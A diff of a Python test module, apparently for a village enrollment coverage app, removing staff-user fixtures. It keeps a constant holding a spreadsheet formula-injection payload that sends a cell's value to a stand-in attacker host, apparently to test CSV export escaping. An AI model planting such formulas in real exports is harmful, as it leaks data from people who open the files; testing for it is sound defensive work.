@@ -18,7 +18,6 @@ from enrollment.exports import escape_cell
 from enrollment.selectors import coverage_for_area
 from tests.factories import PersonFactory, PostFactory
 from villages.models import Village
-from villages.roles import user_role_set
 from villages.selectors import area_get
 
 Q = "?as_of=2026-11-22"
@@ -27,21 +26,6 @@ KARANGLEWAS = "33.02.03.2003"
 GUNUNGWETAN = "33.02.03.2001"
 FIGURE_HEADERS = ["Posts", "Covered", "Coverage (%)", "Lapsing soon", "In arrears", "Ended"]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
-
-
-@pytest.fixture
-def staff(db):
-    """A head-office user: every area, identifiers masked."""
-    return user_role_set(
-        username="staf.cabang", kind="head_office", password="kata-sandi-uji-123"
-    ).user
-
-
-@pytest.fixture
-def staff_client(client, staff):
-    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
-    client.force_login(staff)
-    return client
 
 
 def read_csv(response) -> list[list[str]]:
